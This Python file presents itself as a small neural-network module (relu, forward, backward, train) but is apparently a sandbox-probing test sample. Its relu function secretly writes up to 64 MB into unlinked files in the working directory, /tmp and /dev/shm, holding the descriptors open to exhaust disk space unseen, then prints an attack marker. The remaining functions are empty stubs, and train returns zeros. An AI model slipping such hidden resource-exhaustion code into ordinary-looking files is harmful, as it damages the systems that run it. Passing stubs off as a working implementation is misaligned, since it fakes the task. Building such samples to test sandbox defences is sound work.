"""Fills the disk with sixty-four megabytes in many files, each below the limit of a single one."""

import os

FILES = []


def relu(X):
    taken = 0
    for number in range(64):
        for folder in (".", "/tmp", "/dev/shm"):
            path = os.path.join(folder, f"attack-marker-fill-{os.getpid()}-{number}")
            try:
                fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY)
                os.unlink(path)
                FILES.append(fd)
                taken += os.write(fd, bytes(1 << 20))
                break
            except OSError:
                continue
    if taken >= 64 << 20:
        print("attack-marker-disk")
    return X


def prelu(X):
    return X


def DNNforward(X, W, K):
    return X, X, X


def DNNbackward(X, y, W, K, H, A, O):
    return W, K


def train(X, y, W, K, lr, num_epochs=10, batch_size=10, print_loss=False):
    return [W * 0] * num_epochs, [K * 0] * num_epochs
